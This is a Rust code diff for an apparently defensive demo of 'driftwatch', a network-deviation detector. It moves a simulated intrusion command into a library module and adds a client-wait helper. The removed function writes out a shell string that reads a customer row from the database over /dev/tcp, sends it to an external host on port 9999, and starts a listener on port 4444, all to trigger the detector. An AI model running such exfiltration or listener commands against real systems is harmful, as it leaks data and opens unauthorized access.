@@ -17,7 +17,9 @@ use std::process::Command;
 use std::time::Duration;
 
 use anyhow::{bail, Context};
+use driftwatch_e2e::demo::intrusion_command;
 use driftwatch_e2e::stream::{self, DeviationWatcher};
+use driftwatch_e2e::ProcessGuard;
 use driftwatch_proto::v1::{Category, Deviation, Graph};
 
 use crate::build::{self, BuildOptions};
@@ -78,7 +80,7 @@ fn run_phases(stack: &DemoStack, service_bin: &Path, options: &DemoOptions) -> a
         options.requests
     );
     let client = stack.client(service_bin, &["--requests", &options.requests.to_string()])?;
-    let output = stack.run_client(client, CLIENT_TIMEOUT)?;
+    let output = run_client(client, CLIENT_TIMEOUT)?;
     println!("{}", output.join("\n"));
     let graph = wait_for_declared_edges(stack, u64::from(options.requests))?;
     let raised = watcher.deviations();
@@ -96,7 +98,7 @@ fn run_phases(stack: &DemoStack, service_bin: &Path, options: &DemoOptions) -> a
     let command = intrusion_command(service_bin);
     println!("the client sends: EXEC {command}");
     let client = stack.client(service_bin, &["--exec", &command])?;
-    let output = stack.run_client(client, CLIENT_TIMEOUT)?;
+    let output = run_client(client, CLIENT_TIMEOUT)?;
     println!("{}", output.join("\n"));
     wait_for_intrusion(&watcher)?;
     wait_for_stream_to_catch_up(stack, &watcher)?;
@@ -105,21 +107,6 @@ fn run_phases(stack: &DemoStack, service_bin: &Path, options: &DemoOptions) -> a
     report::print_summary(&watcher.deviations());
     report::print_graph(&stream::graph(stack.agent.api_addr())?);
     Ok(())
-}
-
-/// Returns the shell commands the intrusion runs as the web tier: straight to the database, out to a host
-/// the model does not know, and a listener of its own.
-fn intrusion_command(service_bin: &Path) -> String {
-    let db = ADDRESSES.db;
-    let ext = ADDRESSES.ext;
-    format!(
-        "exec 3<>/dev/tcp/{db}/5432; echo 'GET customers' >&3; read -r row <&3; exec 3>&-; \
-         echo \"db answered: $row\"; \
-         exec 4<>/dev/tcp/{ext}/9999; echo \"$row\" >&4; exec 4>&-; echo 'sent the row to {ext}:9999'; \
-         {} sink --listen 0.0.0.0:4444 --lifetime 3600 >/dev/null 2>&1 & \
-         echo 'started a listener on port 4444'",
-        service_bin.display()
-    )
 }
 
 /// Waits until each declared edge shows every request's connection, which also shows that the
@@ -209,6 +196,13 @@ fn wait_for_stream_to_catch_up(
             watcher.last_sequence()
         )
     })
+}
+
+/// Waits for a client run to succeed and returns its output; Ctrl-C ends the wait.
+fn run_client(mut client: ProcessGuard, timeout: Duration) -> anyhow::Result<Vec<String>> {
+    interrupt::wait_until(timeout, || client.wait_exit(Duration::ZERO).ok())?
+        .context("the client did not finish in time")?;
+    client.wait_success(Duration::ZERO)
 }
 
 fn is(deviation: &Deviation, category: Category) -> bool {
